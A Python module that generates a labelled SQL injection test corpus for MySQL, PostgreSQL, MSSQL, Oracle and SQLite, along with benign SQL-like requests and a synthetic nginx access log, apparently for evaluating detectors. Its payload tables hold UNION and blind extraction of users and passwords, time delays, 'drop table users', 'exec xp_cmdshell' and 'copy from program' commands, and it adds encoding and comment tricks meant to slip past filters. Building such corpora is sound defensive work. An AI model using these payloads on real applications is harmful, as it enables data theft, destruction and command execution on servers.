"""A labelled SQL injection corpus built from SQL grammar, not from detector strings.

Attacks are composed: a *closer* (what ends the application's value: a number, a quote, a
parenthesis), a *body* (what changes the query's logic: a tautology, a UNION, a stacked
statement, a delay, an error function, a boolean probe) and a *tail* (a comment, or a quote
left open for the application to close), for MySQL, PostgreSQL, MSSQL, Oracle and SQLite.
Each is then written as a client would send it (spaces as '+', '%20', tabs or inline
comments; mixed case; percent-encoded 0, 1 or 2 times) into a realistic request (a query
parameter or a path segment).

Benign requests are what real traffic holds that looks like SQL: names with apostrophes,
search sentences full of SQL words, prices and ranges with '-', '--' in slugs, JSON and
base64 parameters, tracking parameters, emails, dates, UUIDs, calculator queries; and an
nginx access log in the combined format. Everything is generated from fixed seeds.
"""

from __future__ import annotations

import base64
import json
import random
import re
import uuid
from urllib.parse import quote, quote_plus

# -- attacks ----------------------------------------------------------------------------------

NUMERIC_CLOSERS = ["1", "42", "-1", "1)", "7))", "1337"]
QUOTE_CLOSERS = ["'", "x'", "1'", "')", "admin'", "'))", '"', 'x"', '1")', "abc')"]
LOGIC = ["or", "and", "OR", "And", "xor", "||", "&&"]


def _tautologies(rng: random.Random) -> list[str]:
    """Tautologies and contradictions: a logic operator and a comparison of literals."""
    out = []
    lits = [
        ("1", "1"),
        ("2", "2"),
        ("7", "7"),
        ("0x1", "0x1"),
        ("true", "true"),
        ("1.5", "1.5"),
        ("null", "null"),
    ]
    ops = ["=", "<>", ">", "<", ">=", "!=", "<=>", " like ", " is "]
    for _ in range(140):  # no leading quote: the value is a number in the query
        a, b = rng.choice(lits)
        op = rng.choice(ops)
        lead = rng.choice(NUMERIC_CLOSERS + ["", ""])
        tail = rng.choice(["", "--", "-- -", "#", "/*", " limit 1--", ";--"])
        out.append(f"{lead} {rng.choice(LOGIC)} {a}{op}{b}{tail}".lstrip())
    for _ in range(40):  # bare truth values ended by a comment
        lead = rng.choice(NUMERIC_CLOSERS + [""])
        out.append(
            f"{lead} {rng.choice(LOGIC)} {rng.choice(['true', '1', '9', 'not false'])}"
            f"{rng.choice(['--', '#', '-- -', ';--', '/*'])}".lstrip()
        )
    # strings balanced across the injected quotes: the application supplies the last quote
    for _ in range(160):
        q = rng.choice(["'", '"'])
        close = q + rng.choice(["", ")", "))"])
        opens = "(" * close.count(")")
        x = rng.choice(["x", "a", "1", "", "abc", "z9"])
        op = rng.choice(["=", "-", "&", "|", "^", "*", "+", "<>", " like ", "<=>", ">=", "/"])
        if rng.random() < 0.5:
            body = f"{opens}{q}{x}{q}{')' * len(opens)}{op}{opens}{q}{x}"
        else:
            body = f"{q}{x}{q}{op}{q}{x}"
        out.append(f"{rng.choice(['', 'x', 'test', '1'])}{close} {rng.choice(LOGIC)} {body}")
    for _ in range(40):  # a column compared: x' or name is not null--
        out.append(
            f"{rng.choice(QUOTE_CLOSERS)} {rng.choice(LOGIC)} "
            f"{rng.choice(['username', 'id', 'u.pass', 'email'])}"
            f"{rng.choice([' is not null', ' like 0x25', '=username', '>0', ' is null'])}"
            f"{rng.choice(['--', '#', '-- -'])}"
        )
    return out


def _quote_comment(rng: random.Random) -> list[str]:
    out = []
    for _ in range(90):
        who = rng.choice(["", "admin", "root", "1", "test", "x", "guest"])
        q = rng.choice(["'", '"'])
        close = q + rng.choice(["", "", ")", "))"])
        out.append(
            f"{who}{close}{rng.choice(['', ' ', '  '])}"
            f"{rng.choice(['--', '-- -', '#', '/*', ';--', '--+', '# x'])}"
        )
    return out


DELAYS = {
    "mysql": [
        "sleep({n})",
        "benchmark({n}000000,md5(1))",
        "(select(0)from(select(sleep({n})))v)",
        "if(1=1,sleep({n}),0)",
        "(select sleep({n}))",
    ],
    "postgresql": [
        "pg_sleep({n})",
        "(select pg_sleep({n}))",
        "pg_sleep_for('{n} seconds')",
        "(select 1 from pg_sleep({n}))",
    ],
    "mssql": ["waitfor delay '0:0:{n}'", "waitfor delay '00:00:0{n}'"],
    "oracle": [
        "dbms_pipe.receive_message(('a'),{n})",
        "dbms_lock.sleep({n})",
        "1=dbms_pipe.receive_message('x',{n})",
    ],
    "sqlite": ["randomblob({n}00000000)", "1=like('abcdefg',upper(hex(randomblob({n}00000000))))"],
}


def _time_based(rng: random.Random) -> list[str]:
    out = []
    for _ in range(200):
        dbms = rng.choice(list(DELAYS))
        delay = rng.choice(DELAYS[dbms]).format(n=rng.randrange(2, 10))
        if delay.startswith("waitfor"):
            closer = rng.choice(NUMERIC_CLOSERS + QUOTE_CLOSERS)
            out.append(f"{closer};{delay}{rng.choice(['--', '', '-- -'])}")
            continue
        closer = rng.choice(NUMERIC_CLOSERS + QUOTE_CLOSERS)
        logic = rng.choice(LOGIC)
        glue = rng.choice([f" {logic} ", ";select ", " || ", f" {logic} 1="])
        tail = (
            rng.choice(["--", "#", "-- -", ""])
            if "'" not in closer[-2:] or rng.random() < 0.8
            else ""
        )
        out.append(f"{closer}{glue}{delay}{tail}")
    return out


UNION_LISTS = {
    "mysql": [
        "null,null,null",
        "1,2,3",
        "@@version,2",
        "user(),database()",
        "table_name,2 from information_schema.tables",
        "concat(0x7e,version()),2",
        "group_concat(schema_name) from information_schema.schemata",
    ],
    "postgresql": [
        "null,version()",
        "1,current_user",
        "string_agg(datname,',') from pg_database",
        "null,(select usename from pg_user limit 1)",
    ],
    "mssql": [
        "null,@@version",
        "1,db_name()",
        "name,null from sysobjects",
        "top 1 name from sys.tables",
    ],
    "oracle": ["null,banner from v$version", "1,user from dual", "table_name,null from all_tables"],
    "sqlite": ["1,sqlite_version()", "name,sql from sqlite_master", "null,group_concat(tbl_name)"],
}
ERRORS = {
    "mysql": [
        "extractvalue(1,concat(0x7e,version()))",
        "updatexml(1,concat(0x7e,user()),1)",
        "exp(~(select * from (select user())a))",
        "gtid_subset(concat(0x7e,version()),1)",
    ],
    "postgresql": ["1=cast(version() as int)", "1=cast((select current_user) as numeric)"],
    "mssql": [
        "1=convert(int,@@version)",
        "1=convert(int,db_name())",
        "1=cast(@@servername as int)",
    ],
    "oracle": [
        "1=utl_inaddr.get_host_name((select banner from v$version where rownum=1))",
        "1=ctxsys.drithsx.sn(1,(select user from dual))",
    ],
    "sqlite": ["1=load_extension('x')", "1=abs(-9223372036854775808)"],
}
STACKED = {
    "mysql": [
        "drop table users",
        "insert into users values(1,'x')",
        "select sleep(5)",
        "update users set role='admin'",
    ],
    "postgresql": [
        "drop table users",
        "select pg_sleep(5)",
        "copy t from program 'id'",
        "create table x(t text)",
    ],
    "mssql": [
        "exec xp_cmdshell 'dir'",
        "exec master..xp_cmdshell 'ping 127.0.0.1'",
        "declare @q varchar(99) set @q='x' exec(@q)",
        "shutdown",
        "waitfor delay '0:0:5'",
    ],
    "oracle": ["begin dbms_lock.sleep(5); end", "execute immediate 'drop table t'"],
    "sqlite": ["attach database '/tmp/x.db' as x", "drop table users", "select randomblob(1e9)"],
}
BLIND = [
    "ascii(substring((select password from users limit 1),1,1))>64",
    "length(database())>1",
    "substr(user(),1,1)='r'",
    "exists(select * from users)",
    "(select count(*) from information_schema.tables)>0",
    "1=(select 1 from dual)",
    "ord(mid(version(),1,1))>51",
    "(select unicode(substr(sqlite_version(),1,1)))>0",
    "(select case when (1=1) then 1 else 0 end)=1",
    "instr(@@version,'5')>0",
]


def _by_dbms(rng: random.Random) -> list[str]:
    out = []
    for dbms, lists in UNION_LISTS.items():
        for _ in range(36):
            closer = rng.choice(NUMERIC_CLOSERS + QUOTE_CLOSERS)
            out.append(
                f"{closer} union {rng.choice(['', 'all ', 'distinct '])}select "
                f"{rng.choice(lists)}{rng.choice(['--', '#', '-- -', ''])}"
            )
        for _ in range(22):
            closer = rng.choice(NUMERIC_CLOSERS + QUOTE_CLOSERS)
            out.append(
                f"{closer} {rng.choice(LOGIC)} {rng.choice(ERRORS[dbms])}"
                f"{rng.choice(['--', '#', '-- -'])}"
            )
        for _ in range(22):
            closer = rng.choice(NUMERIC_CLOSERS + QUOTE_CLOSERS)
            out.append(f"{closer}; {rng.choice(STACKED[dbms])}{rng.choice(['--', ';--', ''])}")
    for _ in range(120):
        closer = rng.choice(NUMERIC_CLOSERS + QUOTE_CLOSERS)
        out.append(
            f"{closer} {rng.choice(['and', 'or', 'AND'])} {rng.choice(BLIND)}"
            f"{rng.choice(['--', '#', '-- -'])}"
        )
    return out


def _order_by(rng: random.Random) -> list[str]:
    out = []
    for _ in range(120):
        closer = rng.choice(NUMERIC_CLOSERS + QUOTE_CLOSERS)
        clause = rng.choice(
            [
                f"order by {rng.randrange(1, 30)}",
                f"group by {rng.randrange(1, 9)}",
                "having 1=1",
                f"group by 1,{rng.randrange(2, 9)} having 1=1",
                f"order by {rng.randrange(1, 9)},{rng.randrange(1, 9)}",
            ]
        )
        out.append(f"{closer} {clause}{rng.choice(['--', '#', '-- -', '/*'])}")
    return out


def payloads() -> list[tuple[str, str]]:
    """(class, payload) in plain SQL spelling, before any disguise."""
    rng = random.Random(20261129)
    classes = {
        "tautology": _tautologies,
        "quote_comment": _quote_comment,
        "time": _time_based,
        "dbms": _by_dbms,
        "order_by": _order_by,
    }
    return [(name, p) for name, make in classes.items() for p in make(rng)]


def _mixed_case(text: str, rng: random.Random) -> str:
    return "".join(c.upper() if rng.random() < 0.5 else c for c in text)


def _spaces(text: str, rng: random.Random) -> str:
    sep = rng.choice([" ", " ", "/**/", "\t", "\n", "/*x*/", "  "])
    return text.replace(" ", sep)


def disguise(payload: str, rng: random.Random) -> str:
    """A payload as a client sends it: respelled, then percent-encoded 0, 1 or 2 times."""
    text = _spaces(payload, rng)
    if rng.random() < 0.5:
        text = _mixed_case(text, rng)
    times = rng.choice([0, 1, 1, 2])
    if times == 0:  # as typed into a browser: the unsafe characters encoded, the rest raw
        return quote_plus(text, safe="'\"()=,*<>!@;:/$")
    text = quote(text, safe=rng.choice(["", "()", "'=,"]))
    return quote(text, safe="") if times == 2 else text


PLACES = [
    "/api/v1/products?id={p}&fields=name,price",
    "/search?q={p}&page=2",
    "/shop/item.php?cat=3&item={p}",
    "/login?user={p}&next=%2Fhome",
    "/reports/view?year=2025&region={p}&format=csv",
    "/news/article?id={p}",
    "/catalog/{p}",
    "/users/{p}/profile",
    "/api/orders/{p}?expand=items",
]


def attack_corpus() -> list[tuple[str, str]]:
    """(class, request endpoint) for every payload, each disguised and placed twice."""
    rng = random.Random(4242)
    out = []
    for cls, p in payloads():
        for _ in range(2):
            place = rng.choice(PLACES)
            enc = disguise(p, rng)
            if "{p}/" in place or place.endswith("/{p}"):
                enc = enc.replace("/", "%2F") if rng.random() < 0.5 else enc
            out.append((cls, place.format(p=enc)))
    return out


# -- benign -----------------------------------------------------------------------------------

NAMES = [
    "O'Brien",
    "O'Neill",
    "d'Artagnan",
    "D'Angelo",
    "Dell'Acqua",
    "N'Diaye",
    "O'Connor-Smith",
    "L'Écuyer",
    "Ma'ayan",
    "Sinéad O'Connor",
    "Shaquille O'Neal",
    "Jean d'Arc",
    "M'Baku",
    "Van der Berg",
    "Núñez",
    "Zoë",
    "Mary-Jane",
    "Ng",
    "O'Reilly",
    "De'Andre",
    "Da'Quan",
]
SENTENCES = [
    "select the best union jobs",
    "drop shipping and order by price",
    "union select committee",
    "how to select or drop a class",
    "best sleep or benchmark tools",
    "where to order by phone",
    "insert coin to continue",
    "delete old emails or archive them",
    "update or upgrade my plan",
    "table saw and drill set",
    "union pacific jobs and careers",
    "credit union or bank",
    "select all or none",
    "group by age and sex",
    "having fun or not",
    "order by date desc",
    "join the union today",
    "is it true or false",
    "cats and dogs or birds",
    "1 or 2 bedrooms",
    "and/or usage",
    "truth or dare",
    "shutdown -h now meaning",
    "exec summary or abstract",
    "sql select where clause example",
    "mysql union select tutorial",
    "execute order 66",
    "declare variable in c",
    "case when syntax",
    "null or undefined javascript",
    "waitfor delay sql server docs",
    "sleep(5) in python",
    "what does 1=1 mean in sql",
    "from a to b",
    "rock 'n' roll",
    "don't stop me now",
    "it's a wonderful life",
    "the 'best' pizza",
    '"exact phrase" search',
    "women's shoes size 8",
    "kids' toys",
    "O'Brien's pub",
    "Tom's diner -- live",
    "c# or f#",
    "#hashtag trends",
    "50% off (today)",
    "what's 2+2",
    "1+1=2",
    "x = y + 3",
    "a=b and b=c",
    "3 > 2 or 2 < 3?",
    "(a+b)^2",
    "price: 10-20",
    "-- none --",
    "back--to--school",
    "select-a-size",
    "user's manual; v2",
]
SLUGS = [
    "spring-sale--2025",
    "back--to--school",
    "news--update",
    "a--b",
    "best-of-2024--top-10",
    "re--launch",
    "x--y--z",
    "v1--beta",
    "deals--under--50",
    "2024--year-in-review",
]
UTM_SOURCES = ["google", "newsletter", "facebook", "twitter", "linkedin", "bing", "partner-site"]
EMAIL_USERS = ["john.o'hara", "mary+shop", "o'brien", "jane_doe", "d'artagnan", "li.wei"]
CALC = [
    "1+1=2",
    "2*(3+4)",
    "10-5",
    "(1+2)*3=9",
    "2^10",
    "sqrt(16)",
    "1/3",
    "5 > 3",
    "max(1,2)=2",
    "sin(30)",
    "-4+6",
    "100-(20*3)",
    "3=3",
    "a and b",
    "x or y",
    "not true",
]


def _benign_one(rng: random.Random) -> str:
    kind = rng.randrange(16)
    enc = quote_plus if rng.random() < 0.6 else quote
    if kind == 0:
        city = rng.choice(["Côte d'Ivoire", "Coeur d'Alene", "L'Aquila", "Val-d'Or"])
        return f"/api/customers?last_name={enc(rng.choice(NAMES))}&city={enc(city)}"
    if kind == 1:
        return f"/search?q={enc(rng.choice(SENTENCES))}&page={rng.randrange(1, 20)}"
    if kind == 2:
        lo = rng.randrange(5, 500)
        form = rng.choice(
            [
                f"{lo}-{lo + rng.randrange(10, 300)}",
                f"${lo}-${lo * 2}",
                f"{lo} - {lo * 3}",
                f"-{lo}",
                f"{lo}..{lo * 2}",
                f"{lo}.99",
            ]
        )
        return f"/shop?price={enc(form)}&sort={rng.choice(['-price', 'price', '-rating'])}"
    if kind == 3:
        return f"/blog/{rng.choice(SLUGS)}?ref={rng.choice(SLUGS)}"
    if kind == 4:
        doc = {
            "name": rng.choice(NAMES),
            "q": rng.choice(SENTENCES),
            "or": [{"price": {"lt": rng.randrange(100)}}],
            "limit": rng.randrange(1, 50),
        }
        return f"/api/search?filter={quote(json.dumps(doc), safe=rng.choice(['', ':,']))}"
    if kind == 5:
        blob = base64.b64encode(json.dumps({"u": rng.choice(NAMES), "t": rng.random()}).encode())
        return f"/track?data={quote(blob.decode(), safe='')}&v=2"
    if kind == 6:
        return (
            f"/landing?utm_source={rng.choice(UTM_SOURCES)}&utm_medium=cpc"
            f"&utm_campaign={enc(rng.choice(SENTENCES))}&utm_term={enc(rng.choice(SENTENCES))}"
            f"&gclid={base64.urlsafe_b64encode(rng.randbytes(24)).decode().rstrip('=')}"
        )
    if kind == 7:
        return (
            f"/article/{rng.randrange(10**5)}?fbclid=IwAR"
            f"{base64.urlsafe_b64encode(rng.randbytes(30)).decode().rstrip('=')}"
            f"&utm_content={enc(rng.choice(NAMES))}"
        )
    if kind == 8:
        return f"/newsletter?email={enc(rng.choice(EMAIL_USERS) + '@example.org')}&confirm=1"
    if kind == 9:
        d = f"2025-{rng.randrange(1, 13):02d}-{rng.randrange(1, 29):02d}"
        return f"/api/events?from={d}&to={enc(d + 'T23:59:59+02:00')}&tz=Europe%2FParis"
    if kind == 10:
        return f"/api/orders/{uuid.UUID(int=rng.getrandbits(128))}?include=lines,customer"
    if kind == 11:
        return f"/calc?expr={enc(rng.choice(CALC))}"
    if kind == 12:
        msg = f"{rng.choice(SENTENCES)} -- {rng.choice(NAMES)}"
        return f"/api/reviews?product={rng.randrange(10**6)}&text={enc(msg)}"
    if kind == 13:
        page = quote(rng.choice(NAMES).replace(" ", "_"))
        return f"/wiki/{page}_{rng.choice(['(band)', '(film)', ''])}"
    if kind == 14:
        t = base64.urlsafe_b64encode(rng.randbytes(rng.randrange(8, 48))).decode()
        return f"/download?token={t}&name={enc(rng.choice(SENTENCES))}.pdf"
    return (
        f"/api/people?$filter={enc('LastName eq ' + repr(rng.choice(NAMES)))}"
        f"&$orderby=LastName desc&$top={rng.randrange(5, 50)}"
    )


def benign_corpus(n: int = 6000) -> list[str]:
    rng = random.Random(99)
    return [_benign_one(rng) for _ in range(n)]


# -- an nginx access log ----------------------------------------------------------------------

UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
    "Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
    "curl/8.5.0",
    "Googlebot/2.1 (+http://www.google.com/bot.html)",
    "okhttp/4.12.0",
]
STATIC = [
    "/static/css/main.{h}.css",
    "/static/js/app.{h}.js",
    "/img/hero-{h}.webp",
    "/favicon.ico",
    "/robots.txt",
    "/sitemap.xml",
    "/fonts/inter-{h}.woff2",
]

LOG_LINE = re.compile(
    r'^(\S+) - (\S+) \[([^\]]+)\] "(\S+) (\S+) (HTTP/[\d.]+)" (\d{3}) (\d+) '
    r'"([^"]*)" "([^"]*)"$'
)


def access_log(n: int = 12000) -> list[str]:
    """Lines in nginx's combined format: $remote_addr - $remote_user [$time_local]
    "$request" $status $body_bytes_sent "$http_referer" "$http_user_agent"."""
    rng = random.Random(2025)
    lines = []
    for i in range(n):
        r = rng.random()
        if r < 0.3:
            path = rng.choice(STATIC).format(h=rng.randbytes(4).hex())
        elif r < 0.4:
            path = f"/api/v2/users/{rng.randrange(10**6)}/orders?page={rng.randrange(1, 9)}"
        else:
            path = _benign_one(rng)
        path = path.replace(" ", "%20").replace('"', "%22")
        sec = i * 7
        ts = (
            f"{12 + sec // 86400:02d}/Mar/2025:{sec // 3600 % 24:02d}:{sec // 60 % 60:02d}:"
            f"{sec % 60:02d} +0000"
        )
        ip = f"10.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
        ref = rng.choice(
            ["-", "https://www.example.com/", "https://www.google.com/search?q=o%27brien"]
        )
        lines.append(
            f'{ip} - - [{ts}] "{rng.choice(["GET", "GET", "POST"])} {path} HTTP/1.1" '
            f"{rng.choice([200, 200, 200, 304, 404, 500])} {rng.randrange(100, 90000)} "
            f'"{ref}" "{rng.choice(UAS)}"'
        )
    return lines
